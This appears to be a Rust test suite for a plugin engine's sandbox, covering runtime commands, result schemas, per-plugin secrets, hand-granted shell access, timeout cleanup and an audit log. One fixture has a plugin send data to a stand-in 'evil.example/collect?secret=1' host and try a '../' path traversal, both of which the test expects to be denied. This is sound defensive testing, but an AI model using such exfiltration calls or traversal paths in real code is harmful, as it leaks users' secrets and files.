//! Commands made at run time, results held against their schema, secrets, programs, and the log of what was done.

use jackdaw_plugs::{DispatchError, GrantChoice, HookKind, Origin, Permission, PlugState, Trust};
use serde_json::{Value, json};

use super::home::{Home, manifest};

async fn command(home: &Home, id: &str, input: Value) -> Result<Value, DispatchError> {
    home.engine.run(id, HookKind::Command, input, Origin::User).await
}

#[tokio::test(flavor = "multi_thread")]
async fn commands_made_at_run_time_can_be_run_and_go_with_their_generation() {
    let home = Home::trusted().await;
    let code = "import { ui } from 'jackdaw'\n\
        export const make = ({ commands }) => ui.commands.set(commands)\n\
        export const open = (input) => input\n";
    let rest = "permissions: [ui]\nfunctions: { make: {}, open: {} }\n";
    home.save("p", &manifest("p", rest), code);
    home.until_state("p", PlugState::Running).await;
    let commands = json!([
        { "name": "Open: Recent", "function": "open", "input": { "list": "recent", "n": 3 }, "key": "Mod-Shift-r", "when": "editor" },
        { "name": "Open: Recent", "function": "open" },
    ]);
    home.call_with("p.make", json!({ "commands": commands })).await.unwrap();
    let listed: Vec<_> = home.engine.commands().into_iter().map(|c| (c.id, c.name, c.key, c.when)).collect();
    assert_eq!(
        listed,
        [
            ("p.open:open-recent".into(), "Open: Recent".into(), Some("Mod-Shift-r".into()), "editor".into()),
            ("p.open:open-recent-2".into(), "Open: Recent".into(), None, "always".into()),
        ] as [(String, String, Option<String>, String); 2]
    );
    let answer = command(&home, "p.open:open-recent", json!({ "n": 5, "more": true })).await.unwrap();
    assert_eq!(answer, json!({ "list": "recent", "n": 5, "more": true }));
    assert_eq!(command(&home, "p.open:open-recent-2", Value::Null).await.unwrap(), json!({}));
    let unknown = command(&home, "p.open:open-recnt", Value::Null).await.unwrap_err();
    assert!(unknown.to_string().contains("did you mean `p.open:open-recent`"), "{unknown}");

    for (wrong, why) in [
        (json!([{ "name": "X", "function": "opne" }]), "did you mean `open`"),
        (json!([{ "name": "", "function": "open" }]), "commands[0]"),
        (json!([{ "name": "X", "function": "open", "key": "Hyper-x" }]), "commands[0]"),
        (json!([{ "name": "X", "function": "open", "when": "sometimes" }]), "commands[0]"),
        (json!([{ "name": "X", "function": "open", "input": 3 }]), "object"),
        (json!([{ "name": "X", "function": "open", "icon": "x" }]), "icon"),
    ] {
        let error = home.call_with("p.make", json!({ "commands": wrong })).await.unwrap_err();
        assert!(error.to_string().contains(why), "{error}");
    }
    assert_eq!(home.engine.commands().len(), 2, "what is wrong changes nothing");

    home.save("p", &manifest("p", rest), &format!("{code}// saved\n"));
    home.until_generation("p", 2).await;
    assert!(home.engine.commands().is_empty());
    home.save("p", &manifest("p", "functions: { make: {}, open: {} }\n"), code);
    home.until_generation("p", 3).await;
    let denied = home.call_with("p.make", json!({ "commands": [] })).await.unwrap_err();
    assert!(denied.to_string().contains("`ui`"), "{denied}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_that_does_not_fit_names_the_function_and_the_pointer() {
    let home = Home::trusted().await;
    let rest = "functions:\n  count:\n    command: { name: Count }\n    returns: { type: object, properties: { words: { type: integer } }, required: [words] }\n";
    home.save("stats", &manifest("stats", rest), "export const count = ({ words }) => ({ words })");
    home.until_state("stats", PlugState::Running).await;
    assert_eq!(command(&home, "stats.count", json!({ "words": 3 })).await.unwrap(), json!({ "words": 3 }));
    for error in [
        command(&home, "stats.count", json!({ "words": "three" })).await.unwrap_err(),
        home.call_with("stats.count", json!({ "words": "three" })).await.unwrap_err(),
    ] {
        assert_eq!(error.code(), "plug_error");
        let text = error.to_string();
        assert!(text.contains("`stats.count`") && text.contains("/words") && text.contains("\"three\""), "{text}");
    }
    assert!(home.log_text("stats").contains("/words"));
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_kept_by_the_names_that_were_granted() {
    let home = Home::trusted().await;
    let code = "import { secrets } from 'jackdaw'\n\
        export const set = ({ name, value }) => secrets.set(name, value)\n\
        export const get = async ({ name }) => (await secrets.get(name)) ?? null\n";
    let rest = "permissions: [{ secrets: [token] }]\nfunctions: { set: {}, get: {} }\n";
    for plug in ["a", "b"] {
        home.save(plug, &manifest(plug, rest), code);
        home.until_state(plug, PlugState::Running).await;
    }
    home.call_with("a.set", json!({ "name": "token", "value": "s3cret" })).await.unwrap();
    assert_eq!(home.call_with("a.get", json!({ "name": "token" })).await.unwrap(), json!("s3cret"));
    assert_eq!(home.call_with("b.get", json!({ "name": "token" })).await.unwrap(), Value::Null, "each has its own");
    let denied = home.call_with("a.get", json!({ "name": "other" })).await.unwrap_err();
    assert!(denied.to_string().contains("`secrets` for `other`"), "{denied}");
    home.call_with("a.set", json!({ "name": "token" })).await.unwrap();
    assert_eq!(home.call_with("a.get", json!({ "name": "token" })).await.unwrap(), Value::Null);
    let audit = format!("{:?}", home.engine.audit("a", 100).unwrap());
    assert!(audit.contains("secrets.set") && audit.contains("token") && !audit.contains("s3cret"), "{audit}");
}

const RUN: &str = "import { shell } from 'jackdaw'\n\
    export const run = ({ program, args, stdin }) => shell.run(program, args, stdin)\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_program_is_run_only_when_it_was_granted_by_hand() {
    let home = Home::trusted().await;
    let rest = "permissions: [{ shell: [cat, sh, no-such-program] }]\nfunctions: { run: {} }\n";
    home.save("p", &manifest("p", rest), RUN);
    home.until_state("p", PlugState::Running).await;
    let cat = json!({ "program": "cat", "args": [], "stdin": "héllo $HOME" });
    let denied = home.call_with("p.run", cat.clone()).await.unwrap_err();
    assert!(denied.to_string().contains("shell"), "trust is not enough: {denied}");
    home.engine.grant("p", GrantChoice::All, true).await.unwrap();
    assert!(home.call_with("p.run", cat.clone()).await.is_err(), "nor is a live grant of all");

    home.engine.grant("p", GrantChoice::These(vec![Permission::Shell]), true).await.unwrap();
    let answer = home.call_with("p.run", cat.clone()).await.unwrap();
    assert_eq!(answer, json!({ "code": 0, "stdout": "héllo $HOME", "stderr": "", "truncated": false }));
    let failing = json!({ "program": "sh", "args": ["-c", "echo oh >&2; exit 3"] });
    let answer = home.call_with("p.run", failing).await.unwrap();
    assert_eq!((answer["code"].clone(), answer["stderr"].clone()), (json!(3), json!("oh\n")));
    let flood = json!({ "program": "sh", "args": ["-c", "head -c 3000000 /dev/zero"] });
    let answer = home.call_with("p.run", flood).await.unwrap();
    assert_eq!((answer["truncated"].clone(), answer["stdout"].as_str().unwrap().len()), (json!(true), 1024 * 1024));
    for (program, code) in
        [("no-such-program", "not_found"), ("ls", "permission_denied"), ("/bin/cat", "permission_denied")]
    {
        let error = home.call_with("p.run", json!({ "program": program })).await.unwrap_err();
        assert_eq!(error.syscall_code().as_str(), code, "{program}: {error}");
    }

    home.save("p", &manifest("p", rest), &format!("{RUN}// another program than the one that was looked at\n"));
    home.until_generation("p", 2).await;
    assert!(home.call_with("p.run", cat).await.is_err(), "a save ends what was granted by hand");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_program_ends_with_the_call_and_so_does_what_it_started() {
    let home = Home::with(|options| options.trust = Trust::All, |_| {}).await;
    let rest = "permissions: [{ shell: [sh] }]\nlimits: { timeout: 1s }\nfunctions: { run: {} }\n";
    home.save("p", &manifest("p", rest), RUN);
    home.until_state("p", PlugState::Running).await;
    home.engine.grant("p", GrantChoice::These(vec![Permission::Shell]), false).await.unwrap();
    let alive = home.path("alive");
    std::fs::write(&alive, "").unwrap();
    // Each second that it lives, it writes; the grandchild too.
    let script =
        format!("(while true; do echo x >> {0}; sleep 0.05; done) & while true; do sleep 1; done", alive.display());
    let error = home.call_with("p.run", json!({ "program": "sh", "args": ["-c", script] })).await.unwrap_err();
    assert!(matches!(error, DispatchError::Timeout { .. }), "{error}");
    let size = || std::fs::metadata(&alive).unwrap().len();
    assert!(size() > 0, "it ran");
    let waited = tokio::time::timeout(super::home::PATIENCE, async {
        let mut before = size();
        loop {
            // Twenty of its beats: silence that long is its end.
            tokio::time::sleep(std::time::Duration::from_secs(1)).await;
            if size() == before {
                return;
            }
            before = size();
        }
    });
    waited.await.expect("the programs go on");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_plug_did_is_written_down_allowed_or_denied() {
    let home = Home::trusted().await;
    let code = "import { kv, net, syscall } from 'jackdaw'\n\
        export const run = async () => {\n  for (let n = 0; n < 5; n++) await syscall('toy.read', { path: 'Journal/a.md' })\n\
        await kv.set('a', 1)\n  for (const path of ['Private/b.md', 'Journal/../c.md']) await syscall('toy.read', { path }).catch(() => 0)\n\
        await net.fetch('https://evil.example/collect?secret=1').catch(() => 0)\n}\n";
    let rest = "permissions: [{ notes:read: ['Journal/**'] }, kv, { net: [example.org] }]\nfunctions: { run: {} }\n";
    home.save("p", &manifest("p", rest), code);
    home.until_state("p", PlugState::Running).await;
    home.call("p.run").await.unwrap();
    let audit = home.engine.audit("p", 100).unwrap();
    let mut lines: Vec<_> = audit
        .iter()
        .map(|e| {
            let verdict = if e.allowed { "allowed" } else { "denied" };
            format!("{} {} {} {verdict} {}", e.function, e.syscall, e.subject.as_deref().unwrap_or("-"), e.count)
        })
        .collect();
    lines.sort();
    assert_eq!(
        lines,
        [
            "run kv.set - allowed 1",
            "run net.fetch evil.example denied 1",
            "run toy.read Journal/../c.md denied 1",
            "run toy.read Journal/a.md allowed 5",
            "run toy.read Private/b.md denied 1",
        ]
    );
    assert!(home.engine.audit("none", 1).is_none());
}
